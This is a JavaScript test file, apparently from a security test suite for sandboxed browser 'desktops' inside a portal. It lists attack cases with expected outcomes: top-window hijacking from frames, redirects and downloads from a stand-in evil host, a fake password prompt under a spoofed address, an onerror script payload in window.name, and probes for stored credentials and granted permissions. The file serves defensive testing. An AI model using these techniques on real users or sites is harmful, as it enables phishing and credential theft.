// Attacks that move windows: the own tab, which no policy can hold, the top from a frame, and what is left behind.

const page = (body) => ({ status: 200, headers: [['Content-Type', 'text/html']], body });
const goes = (what, attack, more = {}) => ({
  name: `own tab: ${what}`,
  attack,
  expect: 'own tab',
  settle: 600,
  ...more,
});

const fromFrame = [
  'top.location = "/"',
  'top.location.href = "/api/container/list"',
  'open("/", "_top")',
  'parent.location.replace("/")',
].map((script) => ({
  name: `frame that may navigate the top: ${script}`,
  html: () =>
    `<iframe sandbox="allow-scripts allow-same-origin allow-top-navigation" srcdoc='<script>${script}</script>'></iframe>`,
  settle: 500,
}));

export const windows = [
  ...fromFrame,
  {
    name: 'frame with a link to the top, clicked',
    html: () => `<iframe srcdoc="<a id=x href='/' target=_top>x</a><script>x.click()</script>"></iframe>`,
    settle: 500,
  },
  {
    name: 'frame with a form to the top',
    html: () =>
      `<iframe srcdoc="<form action='/' target=_top></form><script>document.forms[0].submit()</script>"></iframe>`,
    settle: 500,
  },
  goes('to the start page', () => {
    location.href = '/';
    return late(500);
  }),
  goes('to the API', () => {
    location.href = '/api/container/list';
    return late(500);
  }),
  goes('to the victim’s other desktop', ({ other }) => {
    location.href = `${other}anything`;
    return late(500);
  }),
  goes('to another person’s desktop', ({ foreign }) => {
    location.href = foreign;
    return late(500);
  }),
  goes('to a foreign server', ({ evil }) => {
    location.href = `${evil}/phishing`;
    return late(500);
  }),
  goes('by meta refresh', () => late(500), {
    html: ({ evil }) => `<meta http-equiv="refresh" content="0;url=${evil}/phishing">`,
  }),
  goes('by a link, clicked', () => late(500), { html: () => '<a id="x" href="/">x</a><script>x.click()</script>' }),
  goes('by a link to the top, clicked', () => late(500), {
    html: () => '<a id="x" href="/" target="_top">x</a><script>x.click()</script>',
  }),
  goes('by navigation.navigate', () => {
    navigation.navigate('/');
    return late(500);
  }),
  goes('to an answer that does not exist', () => {
    location.href = '/authorize?code=x&state=y';
    return late(500);
  }),
  {
    name: 'own tab: signs the victim in again, which would end the session everywhere else',
    signsIn: true,
    attack: ({ own }) => {
      location.href = `/login?return_to=${own}`;
      return late(900);
    },
    settle: 900,
    stays: true,
    expect: 'own tab',
  },
  {
    name: 'address bar: shows the portal’s address over the desktop’s page',
    attack: () => {
      history.pushState(null, '', '/login');
      document.body.textContent = 'Please type your password';
      return location.pathname;
    },
    expect: 'open',
    why: 'pages of one origin may show each other’s addresses; only another origin for desktops forbids it',
  },
  {
    name: 'address bar: the portal’s address, then a reload',
    attack: () => {
      history.pushState(null, '', '/');
      location.reload();
      return late(600);
    },
    expect: 'own tab',
    settle: 600,
    // What is shown then is the portal's page, and nothing of the desktop's script is in it.
    look: async ({ page: tab }) => {
      const left = await tab.evaluate(() => ['helpers', 'late', 'frame', 'outcome'].filter((name) => name in window));
      return left.length ? [`the portal’s page has ${left}`] : [];
    },
  },
  {
    name: 'leftovers: window.name and sessionStorage for the portal’s page',
    attack: () => {
      window.name = '<img src=x onerror=alert(1)>';
      sessionStorage.setItem('csrf-token', 'mine');
      location.href = '/';
      return late(600);
    },
    expect: 'own tab',
    look: async ({ page: tab, lab }) => {
      const seen = await tab.evaluate(() => [
        document.querySelector('meta[name="csrf-token"]')?.content,
        window.name,
        window.opener,
      ]);
      return seen[0] === lab.secrets['CSRF token'] && !seen[1] && !seen[2]
        ? []
        : [`the portal’s page took over ${seen}`];
    },
  },
  {
    name: 'download: the API’s answer becomes a file of the victim',
    html: () => '<a id="x" download="list.json" href="/api/container/list">x</a>',
    attack: () => {
      document.getElementById('x').click();
      return late(500);
    },
    settle: 500,
    expect: 'open',
    why: 'desktops need downloads, and a policy does not look at their addresses; the script sees nothing of it',
  },
  {
    name: 'download: of a foreign server',
    html: ({ evil }) => `<a id="x" download href="${evil}/program">x</a>`,
    attack: () => {
      document.getElementById('x').click();
      return late(500);
    },
    settle: 500,
    expect: 'own tab',
  },
  {
    name: 'permissions: what the victim allowed another desktop',
    // The page's own attempt may come before the permission.
    attack: () => 'its page is asked later',
    act: async ({ person, facts }) => {
      await person.context.grantPermissions(['geolocation', 'camera'], { origin: facts.origin });
      await person.context.setGeolocation({ latitude: 52.5, longitude: 13.4 });
    },
    look: async ({ page: tab }) => {
      const used = await tab.evaluate(async () => {
        const place = new Promise((resolve) =>
          navigator.geolocation.getCurrentPosition(
            () => resolve('location'),
            () => resolve(),
          ),
        );
        const camera = navigator.mediaDevices.getUserMedia({ video: true }).then(() => 'camera');
        const used = await Promise.all([soon(place, 2000), soon(camera, 2000)]);
        return used.filter((what) => ['location', 'camera'].includes(what));
      });
      return used.map((what) => `it may use what was allowed on the origin: ${what}`);
    },
  },
  {
    name: 'credentials: stored passwords, passkeys, payments, a federated login',
    attack: async ({ evil, host }) => {
      const tries = [
        () => navigator.credentials.get({ password: true, mediation: 'silent' }),
        () =>
          navigator.credentials.get({ identity: { providers: [{ configURL: `${evil}/fedcm.json`, clientId: 'x' }] } }),
        () =>
          new PaymentRequest([{ supportedMethods: `${evil}/pay` }], {
            total: { label: 'x', amount: { currency: 'EUR', value: '1' } },
          }).canMakePayment(),
        () =>
          navigator.credentials.get({
            publicKey: { challenge: new Uint8Array(16), rpId: host.split(':')[0], timeout: 500 },
          }),
      ];
      return (await Promise.all(tries.map((one) => soon((async () => one())(), 900)))).map(String).join('; ');
    },
    unconfined: 'varies',
  },
];
